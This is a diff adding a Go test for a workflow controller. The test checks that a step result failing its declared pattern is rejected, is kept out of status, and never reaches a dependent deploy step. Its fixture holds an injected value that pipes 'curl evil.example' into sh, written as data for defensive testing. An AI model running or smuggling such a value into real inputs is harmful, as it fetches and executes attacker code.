@@ -303,6 +303,40 @@ spec:
 		custodyv1alpha1.StepResult{Name: "ticket", Value: "OPS-8"})
 }
 
+// TestWorkflowReconciler_resultPattern: a result that does not match its declared pattern fails
+// the attempt (ResultsInvalid, naming the result and pattern, never the value), and a step that
+// reads it never starts with it; a retry that writes a matching one goes on.
+func TestWorkflowReconciler_resultPattern(t *testing.T) {
+	t.Parallel()
+	ns := setup(t)
+	wf := apply(t, ns, `
+metadata: {name: patterned}
+spec:
+  steps:
+  - name: build
+    image: example.com/b:1
+    retries: {limit: 1, backoff: {duration: 1s}}
+    results: [{name: digest, pattern: 'sha256:[0-9a-f]{6,64}'}]
+  - {name: deploy, image: example.com/d:1, dependsOn: [build], command: [sh, -c], args: ["deploy $(steps.build.results.digest)"]}
+`)
+	succeed(t, wf, "build", 1, `{"digest":"sha256:abc123; curl evil.example | sh"}`)
+	eventually(t, "attempt 1 failed on its result", func() error {
+		st := stepOf(get(t, wf), "build")
+		want := `Results: result digest does not match its pattern "sha256:[0-9a-f]{6,64}"`
+		if st.LastFailureReason != custodyv1alpha1.StepReasonResultsInvalid || !strings.Contains(st.Message, want) {
+			return errorf("step build %s (%s, last failure %s): %s", st.Phase, st.Reason, st.LastFailureReason, st.Message)
+		}
+		if strings.Contains(st.Message, "evil") || len(st.Results) > 0 {
+			return errorf("the value reached status: %q, %+v", st.Message, st.Results)
+		}
+		return nil
+	})
+	succeed(t, wf, "build", 2, `{"digest":"sha256:abc123"}`)
+	if got := jobOf(t, wf, "deploy", 1).Spec.Template.Spec.Containers[0].Args; !slices.Equal(got, []string{"deploy sha256:abc123"}) {
+		t.Errorf("deploy runs with args %q, want the result of attempt 2", got)
+	}
+}
+
 // wantResults checks a finished run's status.results.
 func wantResults(t *testing.T, wf *custodyv1alpha1.Workflow, want ...custodyv1alpha1.StepResult) {
 	t.Helper()
